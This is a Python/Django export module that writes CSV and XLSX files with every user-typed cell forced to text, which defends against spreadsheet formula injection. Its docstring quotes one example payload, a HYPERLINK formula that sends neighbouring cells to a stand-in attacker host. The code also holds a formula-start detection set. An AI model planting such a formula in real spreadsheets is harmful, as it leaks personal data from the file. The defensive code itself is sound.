"""The one way to hand people a spreadsheet: CSV and XLSX exports whose cells are always text, never formulas.

Names, phones and anything else a person typed end up in these files. A
spreadsheet program treats a cell that starts with ``=``, ``+``, ``-`` or ``@``
(or with a tab or a line break before one) as a formula, so
``=HYPERLINK("http://evil.example/?p="&D3,"Открыть")`` typed as a last name
would become a live link that sends the neighbouring cells away. Every export
goes through ``export_response``:

- XLSX: every string is a text cell (never a formula or an error value), and a
  text that looks like a formula also carries the «quote prefix» style, so
  editing the cell in Excel or LibreOffice keeps it text; the value itself is
  left exactly as typed.
- CSV has no cell types, so such a value is written with a leading apostrophe,
  which spreadsheet programs read as «this is text».
"""

import csv
import datetime
import io
from collections.abc import Iterable, Sequence

from django.http import HttpResponse
from django.utils.http import content_disposition_header

EXPORT_FORMATS = ("csv", "xlsx")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# The first characters that make a cell a formula (full-width forms included:
# some spreadsheet programs accept them too); a tab or a line break before any
# of them is skipped by some of these programs, so those are neutralised as well.
_FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
_LEADING_BREAKS = frozenset("\t\r\n")


def looks_like_formula(value: str) -> bool:
    """Would a spreadsheet program read this text as a formula (or as one after trimming spaces)?"""
    if not value:
        return False
    return value[0] in _LEADING_BREAKS or value.lstrip(" \u00a0\t\r\n")[:1] in _FORMULA_STARTS


def csv_cell(value) -> str:
    """A value as CSV text that no spreadsheet program will evaluate."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "да" if value else "нет"
    if isinstance(value, datetime.datetime | datetime.date):
        return value.strftime("%d.%m.%Y %H:%M" if isinstance(value, datetime.datetime) else "%d.%m.%Y")
    text = str(value)
    if isinstance(value, int | float):
        return text
    return "'" + text if looks_like_formula(text) else text


def csv_bytes(*, header: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    out = io.StringIO()
    # Semicolons and a byte-order mark: how Excel in Russia opens a UTF-8 CSV by double-click.
    writer = csv.writer(out, delimiter=";", quoting=csv.QUOTE_MINIMAL)
    writer.writerow([csv_cell(value) for value in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_bytes(*, header: Sequence[str], rows: Iterable[Sequence], title: str = "Лист1") -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(title))

    def cells(values: Sequence, *, bold: bool = False) -> list:
        row = []
        for value in values:
            cell = WriteOnlyCell(sheet, value=_xlsx_value(value))
            if isinstance(cell.value, str):
                # Assigning a string that starts with «=» makes openpyxl store a formula,
                # «#N/A» and the like an error value: both are forced back to plain text.
                cell.data_type = "s"
                if looks_like_formula(cell.value):
                    cell.quotePrefix = True
            if bold:
                cell.font = Font(bold=True)
            row.append(cell)
        return row

    sheet.append(cells(header, bold=True))
    for values in rows:
        sheet.append(cells(values))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def export_response(
    fmt: str, *, filename: str, header: Sequence[str], rows: Iterable[Sequence], title: str = "Лист1"
) -> HttpResponse:
    """A CSV or XLSX download (``fmt`` is one of EXPORT_FORMATS); ``filename`` is given without the extension."""
    if fmt == "csv":
        response = HttpResponse(csv_bytes(header=header, rows=rows), content_type=CSV_CONTENT_TYPE)
    elif fmt == "xlsx":
        response = HttpResponse(xlsx_bytes(header=header, rows=rows, title=title), content_type=XLSX_CONTENT_TYPE)
    else:
        raise ValueError(f"Unknown export format: {fmt!r}")
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=f"{filename}.{fmt}")
    response["X-Content-Type-Options"] = "nosniff"
    response["Cache-Control"] = "private, no-store"
    return response


def _xlsx_value(value):
    if value is None or isinstance(value, str | int | float | datetime.date):
        if isinstance(value, datetime.datetime) and value.tzinfo is not None:
            # Excel has no time zones: the local wall-clock time is what people expect to see.
            from django.utils import timezone

            return timezone.localtime(value).replace(tzinfo=None)
        return value
    return str(value)


def _sheet_title(title: str) -> str:
    # Excel refuses sheet names over 31 characters or with any of []:*?/\ in them.
    cleaned = "".join("_" if char in "[]:*?/\\" else char for char in title).strip("'")
    return cleaned[:31] or "Лист1"
